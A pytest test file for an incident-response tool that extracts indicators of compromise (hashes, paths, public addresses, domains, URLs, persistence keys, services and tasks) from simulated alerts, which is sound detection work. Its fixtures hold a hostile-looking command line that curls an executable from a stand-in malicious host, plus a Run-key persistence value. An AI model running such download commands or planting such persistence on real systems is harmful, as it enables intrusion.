import pytest

from incidents.making import alert, deed, narrated, rule, start
from incidents.test_arrivals import arrival
from vedette.incidents import indicators
from vedette.schema.rules import Level

HIGH = rule("memory read", Level.HIGH)
PATH = "C:\\Users\\a.chen\\Downloads\\tool.exe"
TOOL = start("{A}", image=PATH, minutes=-1, hashes="SHA256=AB", source="log.jsonl")


def values(*facts, tool=TOOL):
    incident = narrated([alert(0, process="{A}", image=PATH, rule=HIGH)], tool, *facts)
    return {(each.kind, each.value) for each in incident.narrative.indicators}


def test_the_hash_and_path_of_the_program_are_indicators():
    assert {("sha256", "ab"), ("path", PATH)} <= values()


def test_the_programs_of_the_system_are_everybodys():
    system = start("{A}", image="C:\\Windows\\System32\\cmd.exe", minutes=-1, hashes="SHA256=CD")
    assert values(tool=system) == set()


def test_addresses_and_domains_that_only_it_contacts_are_indicators():
    assert {("ipv4", "8.8.4.4"), ("domain", "cdn.bad.example")} <= values(
        deed("address", "8.8.4.4"), deed("domain", "cdn.bad.example")
    )


@pytest.mark.parametrize("address", ["10.1.2.3", "192.168.0.9", "100.64.0.1", "203.0.113.7", "fe80::1"])
def test_private_and_reserved_addresses_never_are(address):
    assert not [value for kind, value in values(deed("address", address)) if kind.startswith("ip")]


def test_what_other_programs_contact_as_well_is_none():
    shared = [deed("domain", "updates.example"), deed("domain", "updates.example", actor="{OTHER}")]
    assert ("domain", "updates.example") not in values(*shared)


def test_what_many_devices_contact_is_none():
    fleet = [deed("domain", "news.example", device=f"WKS-{n}", actor="{X}") for n in range(10, 20)]
    assert ("domain", "news.example") not in values(deed("domain", "news.example"), *fleet)


def test_addresses_in_command_lines_and_downloads_are_indicators():
    fetch = start("{C}", "{A}", image="curl.exe", minutes=1, command='curl -o x "https://cdn.bad.example/x.exe"')
    found = values(fetch, arrival(-2, url="https://files.bad.example/tool.exe"))
    assert {("url", "https://cdn.bad.example/x.exe"), ("url", "https://files.bad.example/tool.exe")} <= found


@pytest.mark.parametrize("url", ["http://10.0.5.13/x.exe", "http://169.254.169.254/latest", "http://intranet/x"])
def test_urls_that_stay_at_home_are_none(url):
    fetch = start("{C}", "{A}", image="curl.exe", minutes=1, command=f"curl {url}")
    assert not [value for kind, value in values(fetch) if kind == "url"]


def test_what_it_left_behind_is_an_indicator():
    value = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
    found = values(deed("registry", value), deed("service", "upd"), deed("task", "Updates"))
    assert {("registry", value), ("service", "upd"), ("task", "Updates")} <= found


def test_there_are_never_more_than_can_be_read(monkeypatch):
    monkeypatch.setattr(indicators, "INDICATORS_CAP", 5)
    assert len(values(*(deed("domain", f"{n}.bad.example") for n in range(20)))) == 5


def test_every_indicator_names_an_event():
    incident = narrated(
        [alert(0, process="{A}", image=PATH, rule=HIGH)], TOOL, arrival(-2), deed("domain", "cdn.bad.example")
    )
    assert all(each.evidence for each in incident.narrative.indicators)
